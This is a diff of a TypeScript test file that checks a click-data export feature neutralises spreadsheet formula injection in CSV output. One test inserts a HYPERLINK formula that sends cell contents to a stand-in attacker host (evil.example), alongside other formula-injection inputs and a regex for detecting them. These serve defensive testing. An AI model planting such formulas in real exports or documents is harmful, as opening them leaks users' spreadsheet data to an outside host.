@@ -2,10 +2,10 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
 import { EXPORT_COLUMNS, type ExportJob, type ExportOrder } from "@linkfence/contracts";
 import { createDatabase } from "@linkfence/db";
-import { createTestDatabase, type TestDatabase, waitFor } from "@linkfence/testkit";
+import { createTestDatabase, type TestDatabase } from "@linkfence/testkit";
 import { parse } from "csv-parse/sync";
 import fc from "fast-check";
-import { type ExportWorld, hasEnded, openExportWorld } from "../test-support/open-exports.ts";
+import { type ExportWorld, openExportWorld } from "../test-support/open-exports.ts";
 import { openClickStore } from "../test-support/open-store.ts";
 import { newClickId, SAMPLE_AT } from "../test-support/sample-clicks.ts";
 
@@ -44,11 +44,7 @@ async function insert({ id = newClickId(), code = "sample", owner = "ann", ...ce
 }
 
 async function exported(order: Partial<ExportOrder> = {}): Promise<{ job: ExportJob; text: string }> {
-  const { id, owner } = await world.order(order);
-  const job = await waitFor("the end of the export", async () => {
-    const found = await world.find({ id, owner });
-    return hasEnded(found) && found;
-  });
+  const job = await world.ended(await world.order(order));
   return { job, text: job.file ? await world.read(job) : "" };
 }
 
@@ -78,8 +74,9 @@ describe("a file of CSV", () => {
 
   test("runs nothing in a spreadsheet, and keeps everything in JSON Lines", async () => {
     const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")';
-    await insert({ referrer: evil, browser: "@SUM(1)", system: "+1+1", device: "\t=1", country: "-1" });
-    await insert({ referrer: 'x","=1+1', browser: "\r\n=1", system: " =1", device: "a;=1", code: "-ab" });
+    const [earlier, later] = [newClickId(SAMPLE_AT), newClickId(SAMPLE_AT + 1)];
+    await insert({ id: earlier, referrer: evil, browser: "@SUM(1)", system: "+1+1", device: "\t=1", country: "-1" });
+    await insert({ id: later, referrer: 'x","=1+1', browser: "\r\n=1", system: " =1", device: "a;=1", code: "-ab" });
     const { text } = await exported();
     const [first, second] = parse(text, { columns: true, record_delimiter: "\r\n" }) as Record<string, string>[];
     expect(first).toMatchObject({ referrer: `'${evil}`, browser: "'@SUM(1)", system: "'+1+1", device: "'\t'=1" });
@@ -91,7 +88,13 @@ describe("a file of CSV", () => {
   });
 
   test("of any texts has as many cells and rows as there are, none of which begins as a formula; JSON Lines has the texts", async () => {
-    const odd = fc.constantFrom(..."=+-@\t\r\n,;|\"' \\aé＝\u0001\u2028𝒳{}".split(""), "=1", "\r\n", '","', "\\.");
+    const odd = fc.constantFrom(
+      ..."=+-@\t\r\n,;|\"' \\aé＝\u0001\u2028\u00a0\u200b\ufeff𝒳{}",
+      "=1",
+      "\r\n",
+      '","',
+      "\\.",
+    );
     const cell = fc.array(odd, { maxLength: 12 }).map((parts) => parts.join("").slice(0, 60));
     const click = fc.record({ referrer: cell, browser: cell, system: cell, device: cell });
     await fc.assert(
@@ -103,7 +106,7 @@ describe("a file of CSV", () => {
         expect(rows).toHaveLength(clicks.length + 1);
         for (const row of rows) {
           expect(row).toHaveLength(EXPORT_COLUMNS.length);
-          for (const text of row) expect(text).not.toMatch(/^[=+@\t\r\n＝＋－＠-]|^\s+[=+@-]|[;,|\t\r\n"]\s*[=+@-]/);
+          for (const text of row) expect(text).not.toMatch(/^[\t\r\n]|(^|[;,|\t\r\n"])[\s\p{C}]*[=+@＝＋－＠-]/u);
         }
         const jsonl = lines((await exported({ format: "jsonl" })).text);
         const known = (text: string) => (text === "" ? null : text);
@@ -140,18 +143,20 @@ describe("a file", () => {
   });
 
   test("with more clicks than a file may have is none, and is not tried again", async () => {
-    await database.sql`SELECT 1`;
-    for (let count = 0; count < 3; count += 1) await insert({});
+    await world.pause();
     const small = await openExportWorld(database);
     try {
       small.start({ writer: { rowsMax: 2 } });
-      await world.store.cancel("ann", "none");
-      const { id, owner } = await small.order({ owner: "bob" });
-      await insert({ owner: "bob" });
-      void id;
-      void owner;
+      for (let count = 0; count < 2; count += 1) await insert({});
+      const enough = await small.order();
+      expect(await small.ended(enough)).toMatchObject({ state: "SUCCEEDED", rows: 2 });
+      await insert({});
+      const job = await small.ended(await small.order());
+      expect(job).toMatchObject({ state: "FAILED", attempts: 1, error: { code: "too-many-rows" }, file: null });
+      expect(await small.names()).toHaveLength(1);
     } finally {
       await small.close();
+      world.start();
     }
   });
 });
